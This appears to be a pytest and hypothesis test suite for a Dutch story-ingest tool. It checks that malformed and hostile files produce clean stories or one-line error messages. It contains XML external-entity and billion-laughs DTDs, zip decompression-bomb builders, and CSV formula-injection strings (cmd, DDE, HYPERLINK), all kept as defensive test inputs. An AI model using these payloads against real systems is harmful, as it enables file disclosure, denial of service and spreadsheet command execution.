"""Hostile input: whatever a file holds, ingest ends in stories or in clear one-line problems.

Random bytes under every extension, text in the wrong encoding, control characters, mixed line
endings and byte order marks, empty and huge files, broken, nested and oversized .docx/.odt/.xlsx
(decompression bombs), XML with external entities or billion laughs, CSV with formulas. Every
case must end in either correct stories or `path[:row]: reason` lines, never in an exception
from inside, never with a secret file's text read through an entity, and never with a changed
store when the batch is refused.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import struct
import time
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support import store_snapshot, write_docx, write_odt, write_xlsx

from verhalen.errors import Problem, RejectedBatch, VerhalenError
from verhalen.ingest import SUPPORTED, IngestReport, _archive, _table, ingest
from verhalen.project import Project
from verhalen.store import StoryRow

SETTINGS = {
    "deadline": None,
    "derandomize": True,  # the same examples on every run and machine
    "suppress_health_check": [HealthCheck.too_slow, HealthCheck.data_too_large],
}
MAIN_PART = {
    ".docx": "word/document.xml",
    ".odt": "content.xml",
    ".xlsx": "xl/worksheets/sheet1.xml",
}
SECRET = "GEHEIM-7f3a-wachtwoord"
# anything but a newline that is a C0/C1 control character, DEL, or a stray BOM
FORBIDDEN_IN_STORY = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\ufeff\u2028\u2029]")
EXCEPTION_LOOK = re.compile(
    r"Traceback|^\w+(Error|Exception)\(|<class '|object at 0x|\w+Error: \w+Error", re.M
)
_numbers = itertools.count(1)


# -- the checks every case goes through -----------------------------------------------------------


def _stories(project: Project) -> list[StoryRow]:
    with project.store() as store:
        return store.stories()


def assert_clear(problem: Problem, names: set[str]) -> None:
    """A problem a person can act on: one line, naming the file, with a reason in words."""
    line = str(problem)
    assert problem.path in names, f"{problem.path!r} is not one of the files given"
    assert problem.reason.strip(), line
    assert "\n" not in line and "\r" not in line, f"not one line: {line!r}"
    assert not re.search(r"[\x00-\x1f\x7f-\x9f]", line), f"control characters in {line!r}"
    assert not EXCEPTION_LOOK.search(problem.reason), f"reads like a traceback: {line!r}"
    assert len(line) < 1200, f"a message of {len(line)} characters"
    assert SECRET not in line


def assert_clean_story(story: StoryRow) -> None:
    for field in (story.text, story.title or "", story.session or "", story.context or ""):
        assert not FORBIDDEN_IN_STORY.search(field), f"control character in {field[:80]!r}"
        assert unicodedata.is_normalized("NFC", field)
        assert SECRET not in field
    assert story.text.strip()


def attempt(project: Project, paths: list[Path], **kwargs) -> IngestReport | list[Problem]:
    """Ingest `paths`; check the outcome is correct stories or clear problems, and that a
    refused batch left the store exactly as it was. Any other exception fails the test."""
    before = store_snapshot(project)
    known = {s.id for s in _stories(project)}
    try:
        report = ingest(project, paths, **kwargs)
    except RejectedBatch as exc:
        assert store_snapshot(project) == before, "a refused batch changed the store"
        assert exc.problems
        names = {project.relative(p) for p in paths}
        for path in (kwargs.get("storytellers_file"),):
            if path is not None:
                names.add(project.relative(path))
        for problem in exc.problems:
            assert_clear(problem, names)
        return exc.problems
    for story in _stories(project):
        if story.id not in known:
            assert_clean_story(story)
    dump = "\n".join(store_snapshot(project)[2])
    assert SECRET not in dump
    return report


def new_stories(project: Project, report: IngestReport | list[Problem]) -> list[StoryRow]:
    assert isinstance(report, IngestReport), f"refused: {[str(p) for p in report]}"
    stored = set(report.stored)
    return [s for s in _stories(project) if s.id in stored]


def words(text: str) -> list[str]:
    return re.findall(r"\w+", unicodedata.normalize("NFC", text).casefold())


# -- projects and documents -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """One project for the generated examples: each example checks its own before and after."""
    import shutil

    from verhalen.demo import example_folder
    from verhalen.project import FORM_NAME, init_project

    root = tmp_path_factory.mktemp("vijandig") / "p"
    root.mkdir()
    shutil.copy(example_folder() / FORM_NAME, root / FORM_NAME)
    project = init_project(root, template="programma")
    (root.parent / "secret.txt").write_text(SECRET, encoding="utf-8")
    return project


def unique(project: Project, suffix: str) -> Path:
    folder = project.root / "in"
    folder.mkdir(exist_ok=True)
    return folder / f"f{next(_numbers)}{suffix}"


@pytest.fixture(scope="module")
def bases(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """A small valid document of each zip-based kind; its story text holds the word MARK."""
    folder = tmp_path_factory.mktemp("basis")
    write_docx(folder / "b.docx", [("h1", "De brug"), ("p", "Een verhaal over de brug MARK.")])
    write_odt(folder / "b.odt", [("h1", "De brug"), ("p", "Een verhaal over de brug MARK.")])
    write_xlsx(folder / "b.xlsx", [["titel", "tekst"], ["De brug", "Een verhaal over MARK."]])
    return {ext: (folder / f"b{ext}").read_bytes() for ext in MAIN_PART}


def rezip(base: bytes, member: str, change: Callable[[bytes], bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == member:
                data = change(data)
            zout.writestr(info.filename, data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def with_doctype(doctype: str, reference: str) -> Callable[[bytes], bytes]:
    """Put a DOCTYPE before the root element and `reference` into the story text."""

    def change(xml: bytes) -> bytes:
        end = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
        xml = xml[:end] + doctype.encode() + xml[end:]
        return xml.replace(b"MARK", b"MARK " + reference.encode(), 1)

    return change


# -- random bytes, every extension ----------------------------------------------------------------


@settings(max_examples=150, **SETTINGS)
@given(suffix=st.sampled_from(SUPPORTED), data=st.binary(max_size=3000))
def test_random_bytes_under_every_extension(shared, suffix, data):
    path = unique(shared, suffix)
    path.write_bytes(data)
    attempt(shared, [path])


@settings(max_examples=40, **SETTINGS)
@given(
    suffix=st.sampled_from(SUPPORTED),
    head=st.sampled_from([b"PK\x03\x04", b"WEBVTT\n\n", b"1\n00:00:01,000 --> 00:00:02,000\n"]),
    data=st.binary(max_size=2000),
)
def test_random_bytes_behind_a_real_signature(shared, suffix, head, data):
    path = unique(shared, suffix)
    path.write_bytes(head + data)
    attempt(shared, [path])


# -- text in every encoding, with control characters and mixed line endings ------------------------

VOCABULARY = " ".join(
    [
        "de het een en van in op met voor niet was brug gemeente buurt plein school kinderen",
        "café één ruïne reünie coördinator crème brûlée naïef geïnteresseerd financiële zeeën",
        "privé vóór hè façade Curaçao Zürich überhaupt à la carte señor",
    ]
).split()
PUNCTUATION = ["", ",", ".", "!", "?", " –", " ‘zei ze’", " €5", " (echt)", ";"]
CONTROLS = ["\x01", "\x07", "\x08", "\x0b", "\x0c", "\x0e", "\x1b", "\x1b[2J", "\x1f", "\x7f"]
BREAKS = ["\n", "\r\n", "\r", "\n\n", "\r\n\r\n"]
ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1252", "latin-1", "mixed"]


@st.composite
def dutch_text(draw) -> str:
    """Dutch-looking lines with accents, Windows punctuation, control characters between words
    and every kind of line ending."""
    lines = []
    for _ in range(draw(st.integers(1, 6))):
        tokens = []
        for _ in range(draw(st.integers(2, 12))):
            tokens.append(draw(st.sampled_from(VOCABULARY)) + draw(st.sampled_from(PUNCTUATION)))
            if draw(st.integers(0, 5)) == 0:
                tokens.append(draw(st.sampled_from(CONTROLS)))
        lines.append(" ".join(tokens))
    text = ""
    for line in lines:
        text += line + draw(st.sampled_from(BREAKS))
    return text


def encode(text: str, encoding: str, mixed_choices: list[bool]) -> bytes:
    if encoding == "mixed":  # lines alternately UTF-8 and Windows-1252, as after copy and paste
        lines = text.split("\n")
        choices = itertools.cycle(mixed_choices or [True])
        return b"\n".join(
            line.encode("utf-8" if next(choices) else "cp1252", errors="ignore") for line in lines
        )
    if encoding in ("cp1252", "latin-1"):
        return text.encode(encoding, errors="ignore")  # only punctuation is lost: € ‘ ’ –
    return text.encode(encoding)


@settings(max_examples=70, **SETTINGS)
@given(
    text=dutch_text(),
    encoding=st.sampled_from(ENCODINGS),
    suffix=st.sampled_from([".txt", ".md", ".csv"]),
    mixed=st.lists(st.booleans(), max_size=6),
)
def test_text_in_any_encoding_is_read_word_for_word(shared, text, encoding, suffix, mixed):
    tag = f"kenmerk{next(_numbers)}"  # never an exact duplicate of an earlier example
    text = f"{text} {tag}"
    if suffix == ".csv":
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerows([["tekst"], [text]])
        content = buffer.getvalue()
    else:
        content = text
    path = unique(shared, suffix)
    path.write_bytes(encode(content, encoding, mixed))

    [story] = new_stories(shared, attempt(shared, [path]))

    assert words(f"{story.title or ''} {story.text}") == words(text)


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "leeg verhaal"),
        (b"   \r\n\t\r\n", "leeg verhaal"),
        (b"\xef\xbb\xbf", "leeg verhaal"),
        (b"\xff\xfe", "leeg verhaal"),
        (b"\xff\xfeE\x00e\x00n\x00x", "onleesbaar bestand: geen geldige UTF-16-tekst"),
        (b"\xff\xfe\x00\xd8a\x00", "onleesbaar bestand: geen geldige UTF-16-tekst"),  # lone half
        (b"Een verhaal\x00 met een NUL.", "onleesbaar bestand: binaire gegevens, geen tekst"),
        (b"Een verhaal.\n" * 2000 + b"\x00", "onleesbaar bestand: binaire gegevens, geen tekst"),
    ],
)
def test_empty_and_undecodable_text_is_a_clear_problem(project, data, reason):
    path = project.root / "v.txt"
    path.write_bytes(data)

    problems = attempt(project, [path])

    assert [str(p) for p in problems] == [f"v.txt: {reason}"]


def test_utf16_without_a_byte_order_mark(project):
    text = "Het café aan de Grote Markt ging dicht, zei één van de buren."
    (project.root / "le.txt").write_bytes(text.encode("utf-16-le"))
    (project.root / "be.md").write_bytes(("Nog een verhaal: " + text).encode("utf-16-be"))

    report = attempt(project, [project.root / "le.txt", project.root / "be.md"])

    assert sorted(s.text for s in new_stories(project, report)) == [
        text,
        "Nog een verhaal: " + text,
    ]


def test_windows_1252_is_not_mistaken_for_another_encoding(project):
    # charset-normalizer alone read these as cp775, cp1250 and big5
    texts = [
        "De ruïne van het kasteel werd gerestaureerd. Het café was vóór de reünie open.",
        "Ik was echt geïnteresseerd in de financiële kant van het verhaal, zei de wethouder.",
        "Mijn oma maakte altijd crème brûlée op zondag.",
    ]
    for i, text in enumerate(texts):
        (project.root / f"oud{i}.txt").write_bytes(text.encode("cp1252"))

    report = attempt(project, [project.root / f"oud{i}.txt" for i in range(3)])

    assert sorted(s.text for s in new_stories(project, report)) == sorted(texts)


def test_cyrillic_in_windows_1251_still_reads(project):
    text = "Привет, как дела? Всё хорошо, спасибо большое. Москва красивая."
    (project.root / "ru.txt").write_bytes(text.encode("cp1251"))

    [story] = new_stories(project, attempt(project, [project.root / "ru.txt"]))

    assert story.text == text


def test_control_characters_never_reach_the_store(project, register, bases):
    register()
    esc = "\x1b[31m"
    (project.root / "c.txt").write_text(
        f"Titel: Kop{esc}\nVerteller: V01\n\nDe{esc} brug\x0bwas\x0ckapot\x07 en\x00 \x7fdicht.\r",
        encoding="utf-8",
    )
    (project.root / "c.csv").write_text(
        f'tekst,titel,sessie\n"Het plein\x1b]0;titel\x07 was\r\nvol",T{esc},S\x08 1\n',
        encoding="utf-8",
    )
    (project.root / "c.vtt").write_text(
        f"WEBVTT\n\n00:00.000 --> 00:02.000\n<v V02>Wij{esc} gingen\x08 naar het park.\n",
        encoding="utf-8",
    )
    # XML cannot hold ESC at all; carriage returns and tabs it can (openpyxl leaves `_x001B_` be)
    (project.root / "c.xlsx").write_bytes(
        rezip(
            bases[".xlsx"],
            MAIN_PART[".xlsx"],
            lambda xml: xml.replace(b"Een verhaal over MARK.", b"De bieb&#13;ging&#9;dicht."),
        )
    )
    paths = [project.root / n for n in ("c.txt", "c.csv", "c.vtt", "c.xlsx")]

    # NUL in a text file is binary data; the rest is read without its control characters
    problems = attempt(project, paths)
    assert [str(p) for p in problems] == ["c.txt: onleesbaar bestand: binaire gegevens, geen tekst"]
    text = (project.root / "c.txt").read_text(encoding="utf-8").replace("\x00", "")
    (project.root / "c.txt").write_text(text, encoding="utf-8")
    stored = {s.text: s for s in new_stories(project, attempt(project, paths))}

    assert set(stored) == {
        "De[31m brug\nwas\nkapot en dicht.",
        "Het plein]0;titel was\nvol",
        "Wij[31m gingen naar het park.",
        "De bieb\nging dicht.",
    }
    assert stored["De[31m brug\nwas\nkapot en dicht."].title == "Kop[31m"
    assert stored["Het plein]0;titel was\nvol"].title == "T[31m"
    assert stored["Het plein]0;titel was\nvol"].session == "S 1"


def test_storyteller_ids_and_names_are_stored_clean(project, tellers_csv):
    path = tellers_csv([("V\x1b[2J9", "Anja\x07\r\nde Vries", "inwoner", "", "")])

    ingest(project, [], storytellers_file=path)

    with project.store() as store:
        assert [(r["id"], r["name"]) for r in store.storytellers()] == [("V[2J9", "Anja de Vries")]


def test_user_text_in_a_problem_stays_on_one_line(project):
    (project.root / "wie.csv").write_text(
        'tekst,verteller\n"Een verhaal.","V99\x1b[2J\nmet een regel erbij"\n', encoding="utf-8"
    )

    problems = attempt(project, [project.root / "wie.csv"])

    assert [str(p) for p in problems] == [
        "wie.csv:2: onbekende verteller 'V99[2J met een regel erbij'"
    ]


def test_mixed_line_endings_and_byte_order_marks(project):
    (project.root / "le.txt").write_bytes(
        b"\xef\xbb\xbfEerste regel\r\ntweede regel\rderde regel\n\r\n---\r\nTweede verhaal\r"
    )
    (project.root / "le.csv").write_bytes(
        b'\xef\xbb\xbftekst;titel\r"Een cel\r\nover twee regels";Kop\r\n"En nog een";Kop 2\r'
    )

    report = attempt(project, [project.root / "le.txt", project.root / "le.csv"])

    assert sorted((s.title or "", s.text) for s in new_stories(project, report)) == [
        ("", "Eerste regel\ntweede regel\nderde regel"),
        ("", "Tweede verhaal"),
        ("Kop", "Een cel\nover twee regels"),
        ("Kop 2", "En nog een"),
    ]


def test_csv_formulas_are_stored_as_the_text_that_was_typed(project):
    formulas = [
        '=HYPERLINK("http://example.org/?d="&A1,"klik")',
        "=cmd|' /C calc'!A0",
        "+31 6 1234 5678 belde terug",
        "-2 graden en glad",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    ]
    with (project.root / "f.csv").open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([["tekst", "titel"], *[[f, f] for f in formulas]])

    report = attempt(project, [project.root / "f.csv"])

    assert sorted((s.title, s.text) for s in new_stories(project, report)) == sorted(
        (f, f) for f in formulas
    )


# -- broken and hostile documents ------------------------------------------------------------------

FRAGMENTS = [
    b"<",
    b">",
    b"&",
    b"&amp;",
    b"&#0;",
    b"&#x1b;",
    b"]]>",
    b"<!--",
    b"<w:pStyle/>",
    b'<w:pStyle w:val=""/>',
    b"</w:p>",
    b"<w:p><w:r><w:t>los</w:t></w:r></w:p>",
    b'<text:h text:outline-level="x">Kop</text:h>',
    b'<text:s text:c="2000000000"/>',
    b'<text:s text:c="-1"/>',
    b"<text:span>" * 50,
    b'<c r="A9" t="s"><v>99</v></c>',
    b'<c r="ZZZZZZ1"><v>1</v></c>',
    b'<row r="-5"><c r="A1"><v>x</v></c></row>',
    b'<row r="1048577"><c r="A1048577" t="inlineStr"><is><t>x</t></is></c></row>',
    b"\xff\xfe",
    b"\x00",
]


@settings(max_examples=100, **SETTINGS)
@given(
    suffix=st.sampled_from(sorted(MAIN_PART)),
    where=st.floats(0, 1),
    cut=st.integers(0, 40),
    insert=st.one_of(st.sampled_from(FRAGMENTS), st.binary(max_size=40)),
)
def test_mutated_documents(shared, bases, suffix, where, cut, insert):
    def change(xml: bytes) -> bytes:
        at = int(where * len(xml))
        return xml[:at] + insert + xml[at + cut :]

    path = unique(shared, suffix)
    path.write_bytes(rezip(bases[suffix], MAIN_PART[suffix], change))
    attempt(shared, [path])


@settings(max_examples=25, **SETTINGS)
@given(
    suffix=st.sampled_from(sorted(MAIN_PART)),
    drop=st.sampled_from(
        [
            "[Content_Types].xml",
            "_rels/.rels",
            "word/_rels/document.xml.rels",
            "word/styles.xml",
            "META-INF/manifest.xml",
            "mimetype",
            "styles.xml",
            "xl/workbook.xml",
            "xl/_rels/workbook.xml.rels",
            "xl/styles.xml",
            "xl/worksheets/sheet1.xml",
            "word/document.xml",
            "content.xml",
        ]
    ),
)
def test_documents_missing_a_part(shared, bases, suffix, drop):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(bases[suffix])) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            if info.filename != drop:
                zout.writestr(info, zin.read(info.filename))
    path = unique(shared, suffix)
    path.write_bytes(out.getvalue())
    attempt(shared, [path])


@pytest.mark.parametrize("suffix", sorted(MAIN_PART))
@pytest.mark.parametrize(
    ("doctype", "reference"),
    [
        ('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>', "&xxe;"),
        ('<!DOCTYPE x [<!ENTITY % p SYSTEM "file://{secret}"> %p;]>', ""),
        ('<!DOCTYPE x SYSTEM "file://{secret}">', ""),
        (
            '<!DOCTYPE x [<!ENTITY a "{secret}{secret}{secret}{secret}{secret}">'
            + "".join(
                f'<!ENTITY {n} "{("&" + p + ";") * 10}">'
                for p, n in zip("abcdefgh", "bcdefghi", strict=False)
            )
            + "]>",
            "&i;",
        ),
    ],
    ids=["external-entity", "parameter-entity", "external-dtd", "billion-laughs"],
)
def test_xml_entities_are_never_resolved(project, bases, suffix, doctype, reference):
    secret = project.root.parent / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    doctype = doctype.replace("{secret}", str(secret) if "SYSTEM" in doctype else SECRET)
    path = project.root / f"entiteit{suffix}"
    path.write_bytes(rezip(bases[suffix], MAIN_PART[suffix], with_doctype(doctype, reference)))

    started = time.perf_counter()
    outcome = attempt(project, [path])  # checks that SECRET is nowhere in the store or messages

    assert time.perf_counter() - started < 10
    if suffix == ".xlsx" and "[" not in doctype:  # openpyxl's parser leaves the DTD unread
        [story] = new_stories(project, outcome)
        assert story.text == "Een verhaal over MARK ."
    else:
        assert [str(p) for p in outcome] == [
            f"entiteit{suffix}: onleesbaar bestand: het document declareert XML-entiteiten "
            "(een DTD); die worden om veiligheidsredenen niet gelezen"
        ]


@pytest.fixture
def parsers_must_not_run(monkeypatch):
    """Fail the test if a document parser is reached: a bomb must be refused before that."""
    import docx
    import odf.opendocument
    import openpyxl

    def refuse(*args, **kwargs):
        raise AssertionError("the parser opened an archive that should have been refused")

    monkeypatch.setattr(docx, "Document", refuse)
    monkeypatch.setattr(odf.opendocument, "load", refuse)
    monkeypatch.setattr(openpyxl, "load_workbook", refuse)


def bomb(suffix: str, size: int, members: int = 1) -> bytes:
    """A zip with the kind's main part (and more) of `size` bytes of one repeated character."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for i in range(members):
            name = MAIN_PART[suffix] if i == 0 else f"extra/{i}.xml"
            with zf.open(name, "w") as fh:
                chunk = b" " * 2**20
                for _ in range(size // len(chunk)):
                    fh.write(chunk)
                fh.write(b" " * (size % len(chunk)))
    return out.getvalue()


@pytest.mark.parametrize("suffix", sorted(MAIN_PART))
def test_decompression_bomb_is_refused_before_parsing(project, parsers_must_not_run, suffix):
    # 40 MB of spaces packed into ~40 kB: the ratio, far past 200, gives it away
    path = project.root / f"bom{suffix}"
    path.write_bytes(bomb(suffix, 40 * 2**20))
    assert path.stat().st_size < 200_000

    problems = attempt(project, [path])

    assert [str(p) for p in problems] == [
        f"bom{suffix}: archief pakt uit tot 40 MB, meer dan de grens van 200 MB"
    ]


@pytest.mark.parametrize("suffix", sorted(MAIN_PART))
def test_archive_past_the_size_limit_is_refused(project, monkeypatch, parsers_must_not_run, suffix):
    monkeypatch.setattr(_archive, "MAX_EXPANDED_BYTES", 2 * 2**20)
    path = project.root / f"groot{suffix}"
    path.write_bytes(bomb(suffix, 3 * 2**20))

    problems = attempt(project, [path])

    assert [str(p) for p in problems] == [
        f"groot{suffix}: archief pakt uit tot 3 MB, meer dan de grens van 2 MB"
    ]


@pytest.mark.parametrize("suffix", sorted(MAIN_PART))
def test_archive_with_too_many_parts_is_refused(project, monkeypatch, parsers_must_not_run, suffix):
    monkeypatch.setattr(_archive, "MAX_MEMBERS", 50)
    path = project.root / f"veel{suffix}"
    path.write_bytes(bomb(suffix, 10, members=60))

    problems = attempt(project, [path])

    assert [str(p) for p in problems] == [
        f"veel{suffix}: onleesbaar bestand: 60 onderdelen in het archief"
    ]


@pytest.mark.parametrize("suffix", sorted(MAIN_PART))
def test_archive_that_understates_its_size_cannot_expand_past_it(project, bases, suffix):
    """The zip directory says 1 kB; the data inflates to 50 MB. zipfile stops at what the
    directory declares, so the limit checked against the directory holds."""
    data = bytearray(rezip(bases[suffix], MAIN_PART[suffix], lambda xml: xml + b" " * 50 * 2**20))
    name = MAIN_PART[suffix].encode()
    for signature, name_at, size_at in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
        offset = data.find(signature)
        while not data.startswith(name, offset + name_at):
            offset = data.find(signature, offset + 1)
        struct.pack_into("<I", data, offset + size_at, 1024)  # uncompressed size: "1 kB"
    path = project.root / f"liegt{suffix}"
    path.write_bytes(bytes(data))

    started = time.perf_counter()
    problems = attempt(project, [path])

    assert time.perf_counter() - started < 10
    assert isinstance(problems, list)
    assert all(p.reason.startswith("onleesbaar bestand: ") for p in problems)


def test_deeply_nested_xml(project, bases):
    depth = 20_000
    deep_docx = rezip(
        bases[".docx"],
        MAIN_PART[".docx"],
        lambda xml: xml.replace(
            b"MARK", b"MARK" + b"<w:sdt><w:sdtContent>" * depth + b"</w:sdtContent></w:sdt>" * depth
        ),
    )
    deep_odt = rezip(
        bases[".odt"],
        MAIN_PART[".odt"],
        lambda xml: xml.replace(
            b"<office:text>",
            b"<office:text>"
            + b"<text:section>" * depth
            + b"<text:p>Diep verstopt verhaal.</text:p>"
            + b"</text:section>" * depth,
        ).replace(b"MARK", b"<text:span>" * depth + b"diep" + b"</text:span>" * depth),
    )
    deep_xlsx = rezip(
        bases[".xlsx"],
        MAIN_PART[".xlsx"],
        lambda xml: xml.replace(b"MARK", b"<x>" * depth + b"</x>" * depth),
    )
    for name, data in (("diep.docx", deep_docx), ("diep.odt", deep_odt), ("diep.xlsx", deep_xlsx)):
        (project.root / name).write_bytes(data)

    started = time.perf_counter()
    docx_problems = attempt(project, [project.root / "diep.docx"])
    odt = new_stories(project, attempt(project, [project.root / "diep.odt"]))
    attempt(project, [project.root / "diep.xlsx"])  # a clear problem or a story; either will do

    assert time.perf_counter() - started < 20
    assert [str(p) for p in docx_problems] == [
        "diep.docx: onleesbaar bestand: de XML in het document is te diep genest"
    ]
    assert sorted(s.text for s in odt) == [
        "Diep verstopt verhaal.",
        "Een verhaal over de brug diep.",
    ]


def test_odt_space_count_bomb_is_one_space(project, bases):
    path = project.root / "spaties.odt"
    path.write_bytes(
        rezip(
            bases[".odt"],
            MAIN_PART[".odt"],
            lambda xml: xml.replace(b"de brug", b'de<text:s text:c="2000000000"/>brug'),
        )
    )

    [story] = new_stories(project, attempt(project, [path]))

    assert story.text == "Een verhaal over de brug MARK."


def test_odt_that_fails_to_parse_is_refused_and_prints_nothing(project, bases, capsys):
    path = project.root / "half.odt"
    path.write_bytes(rezip(bases[".odt"], MAIN_PART[".odt"], lambda xml: xml[:-30]))

    problems = attempt(project, [path])

    assert [str(p) for p in problems] == [
        "half.odt: onleesbaar bestand: geen geldig .odt-bestand (XML)"
    ]
    assert capsys.readouterr().out == ""  # odfpy printed the whole XML to stdout


def test_docx_heading_style_without_a_value(project, bases):
    path = project.root / "stijl.docx"
    path.write_bytes(
        rezip(
            bases[".docx"],
            MAIN_PART[".docx"],
            lambda xml: re.sub(rb'<w:pStyle w:val="[^"]*"/>', b"<w:pStyle/>", xml),
        )
    )

    [story] = new_stories(project, attempt(project, [path]))

    assert story.text == "De brug\n\nEen verhaal over de brug MARK."


# -- huge and pathological files -------------------------------------------------------------------


def test_file_past_the_size_limit_is_refused_unread(project, monkeypatch):
    import verhalen.ingest as ingest_module

    monkeypatch.setattr(ingest_module, "MAX_FILE_BYTES", 2**20)
    path = project.root / "groot.txt"
    path.write_bytes(b"Een verhaal over de brug. " * 80_000)  # 2 MB
    read = []
    real = Path.read_bytes

    def spy(self):
        read.append(self.name)
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", spy)

    problems = attempt(project, [path])

    assert [str(p) for p in problems] == ["groot.txt: onleesbaar bestand: groter dan 1 MB"]
    assert "groot.txt" not in read


@pytest.mark.parametrize(
    ("name", "make"),
    [
        # one turn continued over 60,000 lines (`+=` on its text was quadratic)
        ("beurt.txt", lambda: "Interviewer: Vertel.\nV01: Begin\n" + "en toen nog wat\n" * 60_000),
        # 8,000 storytellers after a marker (their word counts were redone for every turn)
        (
            "sprekers.txt",
            lambda: (
                "Interviewer: Vertel.\n[verhaal: Een]\n"
                + "".join(f"Spreker{i}: woord woord\n" for i in range(8_000))
            ),
        ),
        # 300,000 blank lines before the text (header lines were taken off with list.pop(0))
        ("leeg.txt", lambda: "\n" * 300_000 + "Eindelijk een verhaal.\n"),
        # a header line and a heading padded with 400,000 spaces (regexes backtracked)
        ("spaties.txt", lambda: "Titel: a" + " " * 400_000 + "b\n\nHet verhaal.\n"),
        ("kop.md", lambda: "# a" + " " * 400_000 + "b\n\nHet verhaal.\n"),
        (
            "note.vtt",
            lambda: (
                "WEBVTT\n\nNOTE sessie: 1" + " " * 400_000 + "x\n\n"
                "00:00.000 --> 00:01.000\n<v V01>Hallo daar.\n"
            ),
        ),
    ],
)
def test_pathological_text_is_read_in_linear_time(project, register, name, make):
    register()
    path = project.root / name
    path.write_text(make(), encoding="utf-8")

    started = time.perf_counter()
    outcome = attempt(project, [path])
    elapsed = time.perf_counter() - started

    assert elapsed < 15, f"{name} took {elapsed:.1f} s"
    if name != "sprekers.txt":  # 8,000 unknown storytellers: refused, quickly
        assert new_stories(project, outcome)


def test_xlsx_that_declares_a_huge_sheet(project, bases):
    path = project.root / "maat.xlsx"
    path.write_bytes(
        rezip(
            bases[".xlsx"],
            MAIN_PART[".xlsx"],
            lambda xml: re.sub(
                rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', xml
            ),
        )
    )

    [story] = new_stories(project, attempt(project, [path]))

    assert (story.title, story.text) == ("De brug", "Een verhaal over MARK.")


def test_xlsx_rows_padded_to_the_last_column_are_limited(project, bases, monkeypatch):
    monkeypatch.setattr(_table, "MAX_CELLS", 100_000)
    rows = b"".join(
        b'<row r="%d"><c r="XFD%d" t="inlineStr"><is><t>x</t></is></c></row>' % (n, n)
        for n in range(3, 5_000)
    )
    path = project.root / "breed.xlsx"
    path.write_bytes(
        rezip(
            bases[".xlsx"],
            MAIN_PART[".xlsx"],
            lambda xml: xml.replace(b"</sheetData>", rows + b"</sheetData>"),
        )
    )

    started = time.perf_counter()
    problems = attempt(project, [path])

    assert time.perf_counter() - started < 10
    assert [str(p) for p in problems] == ["breed.xlsx: onleesbaar bestand: meer dan 100.000 cellen"]


def test_xlsx_row_far_beyond_excel_is_refused_quickly(project, bases):
    far = b'<row r="2000000000"><c r="A2000000000" t="inlineStr"><is><t>x</t></is></c></row>'
    path = project.root / "ver.xlsx"
    path.write_bytes(
        rezip(
            bases[".xlsx"],
            MAIN_PART[".xlsx"],
            lambda xml: xml.replace(b"</sheetData>", far + b"</sheetData>"),
        )
    )

    started = time.perf_counter()
    problems = attempt(project, [path])

    assert time.perf_counter() - started < 10
    assert [str(p) for p in problems] == ["ver.xlsx: onleesbaar bestand: meer dan 1.048.576 rijen"]


def test_path_too_long_for_the_file_system(project):
    path = project.root / ("a" * 300 + ".txt")

    with pytest.raises(RejectedBatch) as caught:
        ingest(project, [path])

    [problem] = caught.value.problems
    assert str(problem).startswith(f"{path}: onleesbaar bestand: ")
    assert "\n" not in str(problem)


# -- storytellers tables and NarraFirma forms ------------------------------------------------------


@settings(max_examples=30, **SETTINGS)
@given(suffix=st.sampled_from([".csv", ".xlsx"]), data=st.binary(max_size=1500))
def test_random_storytellers_table(shared, suffix, data):
    path = unique(shared, suffix)
    path.write_bytes(data)
    attempt(shared, [], storytellers_file=path)


@settings(max_examples=30, **SETTINGS)
@given(
    rows=st.lists(
        st.lists(
            st.one_of(
                st.sampled_from(
                    [
                        "Data column name",
                        "Import",
                        "Scale range",
                        "Story text column name",
                        "Story text",
                        "scale",
                        "single choice indexed",
                        "boolean",
                        "story",
                        "participant",
                        "eliciting",
                        "abc",
                        "-1",
                        "1e400",
                        "²",
                        "",
                        "|a=b",
                        "x|y",
                    ]
                ),
                st.text(max_size=12),
            ),
            max_size=9,
        ),
        max_size=8,
    ),
)
def test_random_narrafirma_form(shared, rows):
    form = unique(shared, ".csv")
    with form.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(
            [["Data column name", "Type", "About", "Short", "Long", "", "A"], *rows]
        )
    stories = unique(shared, ".csv")
    stories.write_text("Story text,Story title\nEen verhaal.,Kop\n", encoding="utf-8")
    before = store_snapshot(shared)
    try:
        attempt(shared, [stories], narrafirma_form=form)
    except VerhalenError as exc:  # the form itself: one line that names it
        assert type(exc) is VerhalenError
        assert "\n" not in str(exc) and str(exc).startswith(f"{form}")
        assert store_snapshot(shared) == before


def test_narrafirma_form_with_a_broken_scale_range(project):
    form = project.root / "form.csv"
    form.write_text(
        "Data column name,Type,About,Short,Long,,A\n"
        "Feeling,Scale,story,Feeling,How did you feel?,,low,high\n"
        ",Scale range,import,,,,laag,hoog\n",
        encoding="utf-8",
    )
    (project.root / "s.csv").write_text("Story text\nEen verhaal.\n", encoding="utf-8")
